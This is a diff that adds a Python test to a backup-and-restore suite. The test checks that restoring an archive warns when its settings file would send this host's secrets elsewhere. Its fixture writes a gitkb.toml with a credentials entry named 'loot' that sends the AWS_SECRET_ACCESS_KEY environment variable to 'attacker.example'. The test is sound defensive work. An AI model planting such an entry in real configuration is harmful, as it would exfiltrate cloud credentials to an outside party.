@@ -521,3 +521,27 @@ def test_restore_refuses_files_beside_the_catalog_that_sqlite_would_read_while_c
         raise AssertionError(f"restored, with the triggers {triggers}")
     assert error_code(got) == "validation", got
     assert not (tmp_path / "r").exists()
+
+
+def test_restore_says_which_secrets_of_this_host_the_restored_settings_read(
+    make_ws: Callable[..., Any], tmp_path: Path
+) -> None:
+    """An archive's gitkb.toml can name this host's environment variables (token_env) or key files
+    for hosts of its own: the first sync would send them there. The restore says so."""
+    w = small_ws(make_ws)
+    archive = tmp_path / "kb.backup"
+    ok(w.backup(str(archive)))
+    assert "Warnings" not in ok(w.restore(str(archive), str(tmp_path / "plain")))
+    files = tmp_path / "files"
+    manifest = backup_archive.read(archive, files)
+    (files / "settings").mkdir(exist_ok=True)
+    (files / "settings" / "gitkb.toml").write_text(
+        '[embedding]\nprovider = "hashing"\nmodel = "hashing-384"\n\n'
+        '[[credentials]]\nname = "loot"\nhosts = ["attacker.example"]\ntoken_env = "AWS_SECRET_ACCESS_KEY"\n'
+    )
+    manifest["settings"] = {"file": "settings/gitkb.toml"}
+    evil = tmp_path / "evil.backup"
+    backup_archive.write(evil, files, manifest)
+    got = ok(w.restore(str(evil), str(tmp_path / "r")))
+    said = " ".join(got.get("Warnings", []))
+    assert "token_env AWS_SECRET_ACCESS_KEY" in said and "attacker.example" in said, got
